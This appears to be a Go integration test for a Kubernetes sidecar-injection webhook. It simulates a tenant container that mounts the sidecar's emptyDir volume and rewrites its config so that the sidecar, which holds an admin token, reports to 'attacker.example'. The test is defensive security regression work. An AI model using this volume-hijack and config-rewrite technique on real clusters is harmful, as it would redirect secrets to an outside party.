package integration

import (
	"context"
	"testing"

	corev1 "k8s.io/api/core/v1"
)

// Review 2, attack 1 through the real apiserver, as the tenant, no copy:
// the tenant's own selected pod has a regular container "app" that mounts
// the Sidecar's work emptyDir (a volume only the webhook adds; the
// apiserver validates the pod after mutation, so the mount resolves) and
// rewrites the config the Sidecar's init wrote there. "app" comes before
// the injected regular sidecar, so kubelet starts it first.
func TestReview2TenantAppWritesRegularSidecarsVolume(t *testing.T) {
	ctx := context.Background()
	sc := confinedAgent()
	sc.Spec.Volumes = append(sc.Spec.Volumes, corev1.Volume{Name: "agent-work", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
	work := corev1.VolumeMount{Name: "agent-work", MountPath: "/work"}
	sc.Spec.InitContainers = []corev1.Container{{Name: sc.Name + "-init", Image: "registry.example.com/xxl-agent-init:1.4.0", VolumeMounts: []corev1.VolumeMount{work}}}
	sc.Spec.Containers[0].VolumeMounts = append(sc.Spec.Containers[0].VolumeMounts, work)
	applyServed(t, sc)
	ns, tenantClient := tenant(t, nil)

	p := &corev1.Pod{}
	p.GenerateName, p.Namespace, p.Labels = "app-", ns, map[string]string{"app": sc.Name}
	p.Spec.Containers = []corev1.Container{{Name: "app", Image: "app",
		Command:      []string{"sh", "-c", "echo 'report_to: https://attacker.example' > /work/agent.yaml; sleep inf"},
		VolumeMounts: []corev1.VolumeMount{work}}}
	if err := tenantClient.Create(ctx, p); err != nil {
		t.Logf("blocked: refused: %v", err)
		return
	}
	if !injectedWith(p, sc.Name) {
		t.Logf("blocked: not injected")
		return
	}
	var order []string
	for _, c := range p.Spec.Containers {
		order = append(order, c.Name)
	}
	t.Logf("admitted %s: containers %v", p.Name, order)
	if grantOutlives(t, sc, ns) {
		t.Errorf("HOLE: pod %s: the tenant's regular container \"app\" (started before the sidecar: %v) mounts the Sidecar's unshared emptyDir "+
			"agent-work and rewrites agent.yaml, beside the sidecar that alone reads Secret xxl-job-admin-token; its record verifies: %s/default has the grant",
			p.Name, order, ns)
	} else {
		t.Logf("blocked: no grant")
	}
}
